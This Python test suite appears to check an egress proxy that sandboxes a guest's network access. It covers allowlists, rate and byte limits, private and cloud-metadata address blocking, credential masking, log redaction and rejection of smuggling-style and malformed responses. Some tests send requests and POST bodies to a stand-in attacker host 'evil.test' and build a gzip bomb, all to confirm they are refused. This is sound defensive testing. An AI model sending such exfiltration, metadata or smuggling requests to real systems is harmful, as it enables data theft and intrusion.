        rates = [route("allowed.test", requests=3), route("other.test", bytes_out=20000), route("a.wild.test")]
        with Bundle(rates) as bundle:
            for path, want in ((2, 200), (1, 200), (2, 200), (1, 429), (2, 429)):
                answer = bundle.https("allowed.test", path=path)
                assert answer.status == want, answer
            assert "3 requests an hour" in answer.text and 3000 < int(answer.headers["retry-after"]) <= 3660, answer
            assert bundle.records()[-1]["reason"] == "rate_limited"
            assert len(rig.events.all("http", host="allowed.test")) == 3
            assert bundle.https("other.test", "/", "POST", body=b"x" * 10000).status == 200
            assert bundle.https("other.test", "/", "POST", body=b"x" * 10000).status == 429  # announced: nothing leaves
            assert len(rig.events.all("http", host="other.test")) == 1
            with bundle.tls("other.test") as s:  # not announced: cut off where it passes the limit
                s.sendall(head("POST", "/", host="other.test", extra="Transfer-Encoding: chunked\r\n"))
                try:
                    for _ in range(40):
                        s.sendall(b"3e8\r\n" + b"y" * 1000 + b"\r\n")
                    s.sendall(b"0\r\n\r\n")
                    assert AnswerReader(s).answer().status == 429
                except OSError:
                    pass
            assert len(rig.events.all("http", host="other.test")) == 1  # it never became a whole request
            for _ in range(5):
                assert bundle.https("a.wild.test").status == 200  # the twin


def test_private_addresses_are_reached_only_by_a_route_that_says_so():
    hosts = {"private.test": 1, "ula.test": 1, "cgn.test": 1, "loop4.test": 2, "loop6.test": 2}
    never = ("linklocal.test", "mapped.test", "zero.test", "multicast.test", "meta6.test", "meta4.test", "loop16.test")
    with Rig() as rig:
        rig.zone.update({"meta6.test": ["fd00:ec2::254"], "meta4.test": ["100.100.100.200"], "loop16.test": ["127.0.0.16"]})
        for private in (0, 1, 2):
            with Bundle([route(h, private=private) for h in (*hosts, *never)] + [route("allowed.test", private=private)]) as bundle:
                for path in (1, 2):
                    for host, needs in hosts.items():
                        mark = rig.events.mark()
                        answer = bundle.https(host, path=path)
                        assert answer.status == (200 if private == needs else 403), (private, host, answer)
                        assert bool(rig.events.all("accept", since=mark)) == (private == needs)
                    for host in never:
                        mark = rig.events.mark()
                        assert bundle.https(host, path=path).status == 403, (private, host)
                        assert rig.events.all("dns", since=mark, name=host) and not rig.events.all("accept", since=mark), host
                assert bundle.https("allowed.test").status == 200  # the twin


def test_log_shows_what_it_is_asked_for_and_no_secret():
    with Rig() as rig:
        secret = rig.secret("token")
        for log, refusals, requests in ((0, 0, 0), (1, 1, 0), (2, 1, 1)):
            with Bundle([route("allowed.test", token="T"), route("other.test")], {"T": secret}, log=log) as bundle:
                assert bundle.https("evil.test", "/refused?q=QUERY").status == 403
                assert bundle.https("allowed.test", "/passed?q=QUERY", "POST", [("X-Shown", "yes\x09tab"), ("Cookie", "s=COOKIE")],
                                    b"BODY").status == 200
                assert bundle.https("other.test", headers=[("Authorization", "Bearer MINEMINE"), ("X-Y", "Bearer MINEMINE")]).status == 200
                shown = bundle.log()
                assert len(re.findall("refused GET evil.test:443/refused: host_not_allowed", shown)) == refusals, shown
                assert len(re.findall("allowed POST allowed.test:443/passed: allowed", shown)) == requests, shown
                assert len(re.findall("request to allowed.test: .*X-Shown: yes", shown)) == requests, shown
                assert len(re.findall(r"request to other.test: .*Authorization: \*\*\*, X-Y: \*\*\*", shown)) == requests, shown
                assert len(re.findall("response of allowed.test: .*Content-Length", shown)) == requests, shown
                for hidden in (secret, "QUERY", "COOKIE", "BODY", "MINEMINE"):
                    assert hidden not in shown, (hidden, shown)
                assert len(bundle.records()) == 3  # the audit holds all of them at every level


def reflected(secret):
    """(query of /reflect, is it a header) for every form, coding and framing."""
    for form in FORMS:
        for how in ("", "&split=1", "&split=7", "&end=close", "&in=header"):
            yield f"as={form}{how}"
    for coding in ("gzip", "deflate", "raw"):
        for how in ("", "&split=1", "&split=11", "&end=close"):
            yield f"as=raw&coding={coding}{how}"
            yield f"as=basic&coding={coding}{how}"


def shows(answer, secret):
    """Is the secret in the answer, in any form? 12 bytes in a row of any are enough."""
    text = answer.head + answer.text
    for form in FORMS:
        whole = FORMS[form](secret)
        if any(whole[i:i + 12] in text for i in range(12, len(whole) - 12)):
            return form
    return None


def test_the_injected_credential_does_not_come_back():
    """S2: reflection, in every usual form, in headers and in bodies, compressed and in pieces."""
    for options, variable, _ in PLACES:
        with Rig() as rig:
            secret = "aA+/=9" + rig.secret("token")
            with Bundle([route("allowed.test", token="T", **options)], {"T": variable.replace("S", secret)}) as bundle:
                for query in reflected(secret):
                    answer = bundle.https("allowed.test", f"/reflect?{query}", path=1 if "split" in query else 2)
                    assert answer.status == 200, (query, answer)
                    assert shows(answer, secret) is None, (options, query, answer)
                    if "in=header" not in query:
                        assert answer.text.startswith("before ") and answer.text.endswith(" after") and "***" in answer.text, (query, answer)
                        assert "content-encoding" not in answer.headers
                    else:
                        assert "******" in answer.headers["x-echo"] and "******" in answer.headers["location"], answer
                assert bundle.https("allowed.test", "/bytes?n=300000").body == b"x" * 300000  # the twin


def test_reflection_shows_the_credential_to_a_guest_that_sent_it_itself():
    """The control: without a bound credential nothing is masked, so the forms do come back."""
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        secret = "aA+/=9" + rig.secret("token")
        for query in reflected(secret):
            if "coding=" in query:
                continue
            answer = bundle.https("allowed.test", f"/reflect?{query}", headers=[("Authorization", f"Bearer {secret}")])
            assert shows(answer, secret) is not None, query


def test_what_cannot_be_looked_through_is_not_passed_on():
    with Rig() as rig:
        with Bundle([route("allowed.test", token="T"), route("other.test")], {"T": rig.secret("t")}) as bundle:
            answer = bundle.https("allowed.test", "/reflect?coding=br")
            assert answer.status == 502 and "credential" in answer.text, answer
            assert bundle.https("other.test", "/reflect?coding=br").status == 200  # the twin
            answer = bundle.https("allowed.test", "/echo", headers=[("Range", "bytes=0-5"), ("If-Range", "x"), ("Accept-Encoding", "br")])
            names = {k.lower(): v for k, v in answer.json["headers"]}
            assert "range" not in names and "if-range" not in names and names["accept-encoding"] == "identity", names
            good = gzip.compress(b"x" * 1000)
            for name, body, whole in (("cut", good[:-12], False), ("rubbish", good + b"more", False), ("bad", b"\x1f\x8b" + b"x" * 40, False),
                                      ("good", good, True), ("bomb", gzip.compress(bytes(30_000_000)), False)):
                rig.raw[name] = (f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
                with bundle.tls("allowed.test") as s:
                    s.sendall(head(target=f"/raw/{name}"))
                    reader = AnswerReader(s)
                    try:
                        assert reader.answer().body == b"x" * 1000 and whole, name
                    except (EOFError, OSError):
                        assert not whole, name


def test_events_of_a_host_with_a_credential_are_not_held_back():
    with Rig() as rig, Bundle([route("allowed.test", token="T")], {"T": rig.secret("t")}) as bundle:
        with bundle.tls("allowed.test") as s:
            reader = AnswerReader(s)
            s.sendall(head(target="/gated?gate=one"))
            reader.head()
            assert reader.chunk() == b"data: first\n\n"
            rig.gate("one")
            assert reader.chunk() == b"data: second\n\n"
            assert reader.chunk() == b""


def test_a_credential_that_does_not_fit_its_scheme_ends_the_start():
    for options, value, want in (({"scheme": "Basic"}, "no-colon-here", "not 'user:password'"), ({}, "abc", "fewer than 4 bytes")):
        try:
            with Bundle([route("allowed.test", token="T", **options)], {"T": value}):
                raise RuntimeError("it started")
        except AssertionError as e:
            assert want in str(e) and value not in str(e).replace("abcdef", ""), e


def malformed_responses():
    ok = b"HTTP/1.1 200 OK\r\n"
    return {
        "cl-cl": ok + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        "cl-te": ok + b"Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "te": ok + b"Transfer-Encoding: gzip\r\n\r\nx",
        "fold": ok + b"X: a\r\n b\r\nContent-Length: 0\r\n\r\n",
        "lf": b"HTTP/1.1 200 OK\nContent-Length: 0\n\n",
        "switch": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\nbytes",
        "garbage": b"SSH-2.0-x\r\n\r\n",
        "empty": b"",
        "cut-head": b"HTTP/1.1 200 OK\r\nContent-",
    }


def test_malformed_responses_become_502():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        rig.raw.update(malformed_responses())
        rig.raw["early"] = b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        rig.raw["cut"] = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nonly this"
        rig.raw["two"] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nstale"
        for name in malformed_responses():
            assert bundle.https("allowed.test", f"/raw/{name}").status == 502, name
        assert bundle.https("allowed.test", "/raw/early").body == b"ok"
        try:
            raise AssertionError(bundle.https("allowed.test", "/raw/cut"))
        except (EOFError, ssl.SSLError):
            pass  # the guest sees that it was cut off
        with bundle.tls("allowed.test") as s:  # bytes nobody asked for are never the next answer
            reader = AnswerReader(s)
            s.sendall(head(target="/raw/two"))
            assert reader.answer().body == b"ok"
            s.sendall(head(target="/next"))
            assert reader.answer().json["target"] == "/next"


def test_an_audit_that_cannot_be_written_denies():
    with Rig() as rig:
        full = os.open("/dev/full", os.O_WRONLY)
        with Bundle([route("allowed.test")], audit_fd=full) as bundle:
            answer = bundle.https("allowed.test", "/", "POST", body=b"data")
            assert answer.status == 503 and "audit" in answer.text, answer
            assert bundle.https("evil.test").status == 403  # a refusal stays one
        assert rig.events.all("http") == []
        with Bundle([route("allowed.test")], audit_holds=64 * 1024 * 1024 - 300) as bundle:  # the file's own limit
            assert bundle.https("allowed.test").status == 200  # room for one record
            assert bundle.https("allowed.test").status == 503
        assert len(rig.events.all("http")) == 1


def test_a_recorder_or_dialler_that_dies_takes_egress_with_it():
    for victim in ("recorder", "dialler"):
        with Rig(), Bundle([route("allowed.test")]) as bundle:
            bundle.processes[victim].kill()
            bundle.processes["egress"].wait(5)


def test_an_egress_that_was_taken_over_reaches_no_host_outside_the_policy():
    with Rig() as rig:
        mark = rig.events.mark()
        with Bundle([route("allowed.test")], egress="bot-bottle-egress-rogue") as bundle:
            for host in ("evil.test", "canary.evil.test", "localhost"):
                answer = bundle.https(host)  # the rogue judges everything as allowed
                assert answer.status == 403 and "allowlist" in answer.text or "normal form" in answer.text, answer
            assert rig.silence(mark) == []
        with Bundle([route("allowed.test")], egress="bot-bottle-egress-rogue",
                    dialler_routes=[route("allowed.test"), route("evil.test")]) as bundle:
            assert bundle.https("evil.test").status == 200  # with the dialler's policy open the attack succeeds


def test_many_tunnels_at_once_and_one_too_many():
    with Rig(), Bundle([route("allowed.test")]) as bundle:
        idle = [bundle.stream() for _ in range(512)]
        with bundle.stream() as s:
            assert s.recv(1) == b""  # closed at once: the limit is 512
        for s in idle:
            s.close()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:  # their places become free as egress sees their ends
            with bundle.stream() as s:
                try:
                    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")
                    if s.recv(100):
                        break
                except OSError:
                    pass
        assert bundle.https("allowed.test").status == 200


def test_the_body_of_a_refused_request_is_read_so_that_the_answer_arrives():
    with Rig() as rig, Bundle([route("allowed.test")]) as bundle:
        mark = rig.events.mark()
        answer = bundle.https("evil.test", "/", "POST", body=b"x" * 60000)
        assert answer.status == 403 and "'evil.test'" in answer.text, answer
        with bundle.tls("evil.test") as s:  # one who never ends is cut off
            s.sendall(head("POST", host="evil.test", extra="Content-Length: 100000000\r\n"))
            assert AnswerReader(s).answer().status == 403
            try:
                while True:
                    s.sendall(b"x" * 65536)
            except OSError:
                pass
        assert rig.silence(mark) == []


def test_many_requests_at_once_are_each_answered_and_recorded():
    with Rig(), Bundle([route("allowed.test")]) as bundle:
        answers = {}

        def ask(i):
            host = "allowed.test" if i % 2 else "evil.test"
            answers[i] = bundle.https(host, f"/n/{i}").status
        threads = [threading.Thread(target=ask, args=(i,)) for i in range(40)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert answers == {i: 200 if i % 2 else 403 for i in range(40)}, answers
        recorded = sorted((int(r["path"][3:]), r["verdict"]) for r in bundle.records())
        assert recorded == [(i, "allowed" if i % 2 else "refused") for i in range(40)]


# A guest that comes by itself

LOGIN = "bottle:b64url-is_its-alphabet-0123456789ABCDEFGHIJ"


def basic(login=LOGIN, scheme="Basic"):
    return f"Proxy-Authorization: {scheme} {base64.b64encode(login.encode()).decode()}\r\n"


def connect(s, host, extra=""):
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n{extra}\r\n".encode("latin1"))
    return AnswerReader(s).head()


def test_with_the_credential_the_listener_is_a_proxy_and_passes_it_to_nobody():
    with Rig() as rig:
        secret = rig.secret("token")
        with Bundle([route("allowed.test", token="TOKEN"), route("other.test", plain=(80,))], {"TOKEN": secret},
                    login=LOGIN) as bundle:
            assert bundle.minted == bundle.ca
            with bundle.dial() as s:
                assert connect(s, "allowed.test", basic()).status == 200
                with bundle.context().wrap_socket(s, server_hostname="allowed.test") as tls:
                    echo = bundle.request(tls, "allowed.test", "/echo", headers=[
                        ("Proxy-Authorization", "Basic " + base64.b64encode(LOGIN.encode()).decode())]).json
            names = [name.lower() for name, _ in echo["headers"]]
            assert "proxy-authorization" not in names and ["Authorization", "Bearer <secret token>"] in echo["headers"]
            with bundle.dial() as s:  # absolute form, twice on one connection
                reader = AnswerReader(s)
                for scheme in ("Basic", "bAsIc"):
                    s.sendall(head(target="http://other.test/echo", host="other.test", extra=basic(scheme=scheme)))
                    answer = reader.answer()
                    assert answer.status == 200, answer
                    assert "proxy-authorization" not in [name.lower() for name, _ in answer.json["headers"]]
            encoded = base64.b64encode(LOGIN.encode()).decode()
            told = str(bundle.records()) + bundle.log()
            assert len(bundle.records()) == 3 and LOGIN not in told and encoded not in told, told


def test_without_the_credential_the_listener_answers_403_and_records_once():
    wrong = ["", basic(LOGIN[:-1]), basic(LOGIN + "x"), basic("bottle:"), basic(LOGIN.upper()),
             basic(scheme="Bearer"), basic() + basic(), basic().replace("\r\n", "=\r\n"),
             f"Proxy-Authorization: {LOGIN}\r\n", basic().replace("Proxy-", ""), "Proxy-Authorization:\r\n",
             "Proxy-Authorization: Basic\r\n"]
    with Rig() as rig:
        secret = rig.secret("token")
        with Bundle([route("allowed.test", token="TOKEN"), route("other.test", plain=(80,))], {"TOKEN": secret},
                    login=LOGIN) as bundle:
            mark = rig.events.mark()
            for extra in wrong:
                with bundle.dial() as s:
                    answer = connect(s, "allowed.test", extra)
                    assert answer.status == 403 and "proxy-authenticate" not in answer.headers, (extra, answer)
                with bundle.dial() as s:
                    s.sendall(head(target="http://other.test/echo", host="other.test", extra=extra))
                    answer = AnswerReader(s).answer()
                    assert answer.status == 403 and "credential" in answer.text, (extra, answer)
                    assert answer.text.count("\n") == 1
            assert rig.silence(mark) == []
            records = bundle.records()
            assert [(r["reason"], r["host"]) for r in records] == [("no_credential", "allowed.test"), ("no_credential", "other.test")] * len(wrong)
            assert f"({2 * len(wrong)} so far)" not in bundle.log() and "(16 so far)" in bundle.log()
            with bundle.dial() as s:  # the twin
                s.sendall(head(target="http://other.test/echo", host="other.test", extra=basic()))
                assert AnswerReader(s).answer().status == 200


def test_a_second_request_on_a_connection_needs_the_credential_too():
    with Rig(), Bundle([route("other.test", plain=(80,))], login=LOGIN) as bundle, bundle.dial() as s:
        reader = AnswerReader(s)
        s.sendall(head(target="http://other.test/echo", host="other.test", extra=basic()))
        assert reader.answer().status == 200
        s.sendall(head(target="http://other.test/echo", host="other.test"))
        assert reader.answer().status == 403


def test_a_tunnel_of_the_guests_stream_needs_no_credential():
    with Rig(), Bundle([route("allowed.test")], login=LOGIN) as bundle:
        assert bundle.https("allowed.test").status == 200


def test_strangers_neither_fill_the_audit_nor_keep_the_guest_out():
    with Rig(), Bundle([route("allowed.test")], login=LOGIN) as bundle:
        silent = [bundle.dial() for _ in range(100)]
        for _ in range(300):
            with bundle.dial() as s:
                s.sendall(head(target="http://allowed.test/"))
                s.recv(1000)
        assert len(bundle.records()) == 256, len(bundle.records())
        with bundle.dial() as s:
            assert connect(s, "allowed.test", basic()).status == 200
        closed = sum(is_closed(s) for s in silent)
        assert closed >= 36, closed
        for s in silent:
            s.close()


def is_closed(s):
    s.settimeout(0.05)
    try:
        return s.recv(1) == b""
    except TimeoutError:
        return False
    except ConnectionError:
        return True


def test_a_stranger_that_says_nothing_is_closed_after_a_while():
    with Rig(), Bundle([route("allowed.test")], login=LOGIN) as bundle, bundle.dial(15) as s:
        assert s.recv(1) == b""


def test_curl_with_the_credential_in_its_proxy_url():
    with Rig(), Bundle([route("allowed.test")], login=LOGIN) as bundle:
        ca = os.path.join(bundle.home, "ca.pem")
        with open(ca, "w", encoding="ascii") as f:
            f.write(bundle.ca)
        seen = {}
        for who in (LOGIN, "bottle:wrong"):
            done = subprocess.run(
                ["curl", "-sS", "--max-time", "20", "--cacert", ca, "-x", f"http://{who}@{bundle.proxy[0]}:{bundle.proxy[1]}",
                 "https://allowed.test/echo"], capture_output=True, text=True, check=False, timeout=30)
            seen[who] = (done.returncode, done.stdout, done.stderr)
        assert seen[LOGIN][0] == 0 and '"method"' in seen[LOGIN][1], seen
        assert seen["bottle:wrong"][0] != 0 and "403" in seen["bottle:wrong"][2], seen
